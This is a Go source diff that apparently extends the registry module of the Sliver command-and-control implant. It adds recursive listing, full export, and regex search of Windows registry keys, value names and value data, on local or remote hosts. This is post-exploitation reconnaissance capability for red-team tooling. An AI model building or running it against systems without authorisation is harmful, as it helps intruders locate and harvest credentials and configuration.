@@ -1,15 +1,26 @@
 package registry
 
 import (
+	"encoding/binary"
+	"encoding/hex"
 	"fmt"
 	// {{if .Config.Debug}}
 	"log"
 	// {{end}}
+	"regexp"
 	"strings"
+	"unicode/utf16"
 
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
 	"golang.org/x/sys/windows/registry"
 )
 
+const (
+	// maxErrors - Keys that can't be read are reported up to this many times,
+	// there are a lot of them in HKLM when we're not SYSTEM
+	maxErrors = 100
+)
+
 var hives = map[string]registry.Key{
 	"HKCR": registry.CLASSES_ROOT,
 	"HKCU": registry.CURRENT_USER,
@@ -173,6 +184,206 @@ func ListValues(hostname string, hive string, path string) (results []string, er
 	return k.ReadValueNames(int(kInfo.ValueCount))
 }
 
+// ListSubKeysRecursive returns the paths of the subkeys below the provided path
+// relative to it, depth 0 lists all of them
+func ListSubKeysRecursive(hostname string, hive string, path string, depth uint32) ([]string, error) {
+	path = strings.Trim(path, "\\")
+	results := []string{}
+	err := walk(hostname, hive, path, depth, func(keyPath string, key registry.Key) bool {
+		if keyPath != path {
+			results = append(results, strings.TrimPrefix(strings.TrimPrefix(keyPath, path), "\\"))
+		}
+		return true
+	}, func(keyPath string, err error) {
+		// {{if .Config.Debug}}
+		log.Printf("could not open key %s: %s\n", keyPath, err)
+		// {{end}}
+	})
+	return results, err
+}
+
+// Export reads every key and value below the provided path
+func Export(hostname string, hive string, path string) (*sliverpb.RegistryExport, error) {
+	export := &sliverpb.RegistryExport{Hive: hive}
+	onErr := func(keyPath string, err error) {
+		if len(export.Errors) < maxErrors {
+			export.Errors = append(export.Errors, fmt.Sprintf("%s: %s", keyPath, err))
+		}
+	}
+	err := walk(hostname, hive, path, 0, func(keyPath string, key registry.Key) bool {
+		values, err := readValues(key)
+		if err != nil {
+			onErr(keyPath, err)
+		}
+		export.Keys = append(export.Keys, &sliverpb.RegistryKey{Path: keyPath, Values: values})
+		return true
+	}, onErr)
+	return export, err
+}
+
+// Search returns the keys below the provided path that match the request's
+// patterns, along with the values that matched
+func Search(req *sliverpb.RegistrySearchReq) (*sliverpb.RegistrySearch, error) {
+	keyExp, err := compilePattern(req.KeyPattern)
+	if err != nil {
+		return nil, err
+	}
+	valueExp, err := compilePattern(req.ValuePattern)
+	if err != nil {
+		return nil, err
+	}
+	dataExp, err := compilePattern(req.DataPattern)
+	if err != nil {
+		return nil, err
+	}
+	matchValues := valueExp != nil || dataExp != nil
+
+	search := &sliverpb.RegistrySearch{}
+	onErr := func(keyPath string, err error) {
+		if len(search.Errors) < maxErrors {
+			search.Errors = append(search.Errors, fmt.Sprintf("%s: %s", keyPath, err))
+		}
+	}
+	err = walk(req.Hostname, req.Hive, req.Path, 0, func(keyPath string, key registry.Key) bool {
+		if keyExp != nil && !keyExp.MatchString(keyPath) {
+			return true
+		}
+		match := &sliverpb.RegistryKey{Path: keyPath}
+		if matchValues {
+			values, err := readValues(key)
+			if err != nil {
+				onErr(keyPath, err)
+			}
+			for _, value := range values {
+				if valueExp != nil && !valueExp.MatchString(value.Name) {
+					continue
+				}
+				if dataExp != nil && !dataExp.MatchString(valueString(value)) {
+					continue
+				}
+				match.Values = append(match.Values, value)
+			}
+			if len(match.Values) == 0 {
+				return true
+			}
+		}
+		search.Matches = append(search.Matches, match)
+		if 0 < req.MaxResults && req.MaxResults <= uint32(len(search.Matches)) {
+			search.Truncated = true
+			return false
+		}
+		return true
+	}, onErr)
+	return search, err
+}
+
+// walk - Calls fn with the key at path and every key below it until fn returns
+// false, keys that can't be opened are passed to onErr and skipped
+func walk(hostname string, hive string, path string, depth uint32, fn func(string, registry.Key) bool, onErr func(string, error)) error {
+	path = strings.Trim(path, "\\")
+	k, err := openKey(hostname, hive, path, registry.READ)
+	if err != nil {
+		return err
+	}
+	defer k.Close()
+	walkKey(*k, path, 0, depth, fn, onErr)
+	return nil
+}
+
+func walkKey(key registry.Key, path string, level uint32, depth uint32, fn func(string, registry.Key) bool, onErr func(string, error)) bool {
+	if !fn(path, key) {
+		return false
+	}
+	if 0 < depth && depth <= level {
+		return true
+	}
+	names, err := key.ReadSubKeyNames(0)
+	if err != nil {
+		onErr(path, err)
+		return true
+	}
+	for _, name := range names {
+		subPath := name
+		if path != "" {
+			subPath = path + "\\" + name
+		}
+		subKey, err := registry.OpenKey(key, name, registry.READ)
+		if err != nil {
+			onErr(subPath, err)
+			continue
+		}
+		more := walkKey(subKey, subPath, level+1, depth, fn, onErr)
+		subKey.Close()
+		if !more {
+			return false
+		}
+	}
+	return true
+}
+
+// readValues - The raw data of every value of a key
+func readValues(key registry.Key) ([]*sliverpb.RegistryValue, error) {
+	names, err := key.ReadValueNames(0)
+	if err != nil {
+		return nil, err
+	}
+	values := []*sliverpb.RegistryValue{}
+	for _, name := range names {
+		size, valType, err := key.GetValue(name, nil)
+		if err != nil {
+			continue
+		}
+		data := make([]byte, size)
+		if 0 < size {
+			size, valType, err = key.GetValue(name, data)
+			if err != nil {
+				continue
+			}
+		}
+		values = append(values, &sliverpb.RegistryValue{Name: name, Type: valType, Data: data[:size]})
+	}
+	return values, nil
+}
+
+// valueString - The value's data the way regedit shows it, data patterns are
+// matched against this
+func valueString(value *sliverpb.RegistryValue) string {
+	switch value.Type {
+	case registry.SZ, registry.EXPAND_SZ:
+		return strings.TrimRight(utf16String(value.Data), "\x00")
+	case registry.MULTI_SZ:
+		return strings.Join(strings.Split(strings.TrimRight(utf16String(value.Data), "\x00"), "\x00"), "\n")
+	case registry.DWORD:
+		if len(value.Data) == 4 {
+			dword := binary.LittleEndian.Uint32(value.Data)
+			return fmt.Sprintf("0x%08x (%d)", dword, dword)
+		}
+	case registry.QWORD:
+		if len(value.Data) == 8 {
+			qword := binary.LittleEndian.Uint64(value.Data)
+			return fmt.Sprintf("0x%016x (%d)", qword, qword)
+		}
+	}
+	return hex.EncodeToString(value.Data)
+}
+
+func utf16String(data []byte) string {
+	chars := make([]uint16, len(data)/2)
+	for index := range chars {
+		chars[index] = binary.LittleEndian.Uint16(data[index*2:])
+	}
+	return string(utf16.Decode(chars))
+}
+
+// compilePattern - Registry names are case insensitive so patterns are too,
+// returns nil for an empty pattern
+func compilePattern(pattern string) (*regexp.Regexp, error) {
+	if pattern == "" {
+		return nil, nil
+	}
+	return regexp.Compile("(?i)" + pattern)
+}
+
 // CreateSubKey creates a new subkey
 func CreateSubKey(hostname string, hive string, path string, keyName string) error {
 	k, err := openKey(hostname, hive, path, registry.ALL_ACCESS)